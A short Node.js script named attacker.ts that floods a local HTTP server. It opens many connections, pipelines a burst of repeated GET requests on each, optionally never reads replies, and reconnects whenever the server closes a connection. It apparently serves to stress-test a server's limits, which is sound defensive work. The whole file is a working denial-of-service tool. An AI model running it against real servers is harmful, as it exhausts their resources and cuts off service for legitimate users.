/**
 * A client that pipelines as many requests as it can over each of its connections, reads no reply
 * with `--deaf`, and connects again when the server closes a connection.
 * Usage: node attacker.ts <port> <own address> <path> <connections> <requests> [--deaf]
 */
import { connect } from 'node:net';

const [port = '', localAddress = '', path = '', connections = '', requests = '', deaf] =
  process.argv.slice(2);
const burst = `GET ${path} HTTP/1.1\r\nHost: a\r\n\r\n`.repeat(Number(requests));

function attack(): void {
  const socket = connect({ host: '127.0.0.1', port: Number(port), localAddress }, () =>
    socket.write(burst),
  );
  socket.on('error', () => undefined);
  socket.on('close', () => setTimeout(attack, 10));
  if (deaf === undefined) socket.resume();
  else socket.pause();
}

for (let n = 0; n < Number(connections); n++) attack();
